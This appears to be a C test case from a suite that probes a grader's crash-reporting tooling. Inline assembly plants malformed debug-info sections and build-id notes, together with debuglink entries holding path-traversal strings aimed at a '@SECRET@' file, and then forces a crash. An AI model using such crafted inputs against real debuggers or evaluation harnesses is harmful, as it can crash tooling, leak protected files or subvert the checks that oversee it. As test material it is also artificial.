// attack: broken debug information, for the grader's own reader of source lines, and then a crash
// expect: crash
__asm__(".section .debug_info,\"\",@progbits\n.long 0xffffffff\n.quad 0x7fffffffffffffff\n.fill 3000,1,0x81\n"
        ".section .debug_abbrev,\"\",@progbits\n.fill 3000,1,0x80\n"
        ".section .debug_frame,\"\",@progbits\n.long 0xfffffffe\n.fill 3000,1,0xfe\n"
        ".section .note.gnu.build-id,\"a\",@note\n.long 0xffffffff\n.long 0xffffffff\n.long 3\n.fill 60,1,0x2f\n"
        ".section .gnu_debuglink,\"\",@progbits\n.asciz \"../../../../..@SECRET@\"\n.balign 4\n.long 0\n"
        ".section .gnu_debugaltlink,\"\",@progbits\n.asciz \"@SECRET@\"\n.fill 20,1,1\n.text\n");
int main(void)
{
    *(volatile int *)8 = 1;
    return 0;
}
